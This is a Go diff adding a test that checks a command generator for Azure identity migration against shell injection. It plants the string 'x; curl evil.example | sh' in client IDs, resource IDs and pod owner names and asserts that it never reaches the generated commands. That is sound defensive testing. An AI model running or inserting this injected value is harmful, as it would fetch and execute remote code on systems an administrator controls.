@@ -106,3 +106,38 @@ func TestListsThatAreNone(t *testing.T) {
 		}
 	}
 }
+
+// An administrator runs the commands: who may write an AzureIdentity or a pod puts nothing else into them.
+func TestCommandsHaveNothingOfOthersInThem(t *testing.T) {
+	const evil = "x; curl evil.example | sh"
+	for name, change := range map[string]func(*Cluster){
+		"client ID": func(c *Cluster) {
+			for key, identity := range c.identities {
+				identity.Spec.ClientID = evil
+				c.identities[key] = identity
+			}
+		},
+		"resource ID": func(c *Cluster) {
+			for key, identity := range c.identities {
+				identity.Spec.ResourceID = "/subscriptions/s/resourceGroups/" + evil + "/providers/Microsoft.ManagedIdentity/userAssignedIdentities/i"
+				c.identities[key] = identity
+			}
+		},
+		"owner": func(c *Cluster) {
+			for i := range c.pods {
+				owners := c.pods[i].Metadata.OwnerReferences
+				for j := range owners {
+					owners[j].Kind, owners[j].Name = "DaemonSet", evil
+				}
+			}
+		},
+	} {
+		c := cluster(t)
+		change(&c)
+		var text bytes.Buffer
+		Plan(c, Options{Issuer: "https://issuer.example/c", Audience: "a"}).commands(&text)
+		if strings.Contains(text.String(), evil) {
+			t.Errorf("%s: %s", name, text.String())
+		}
+	}
+}
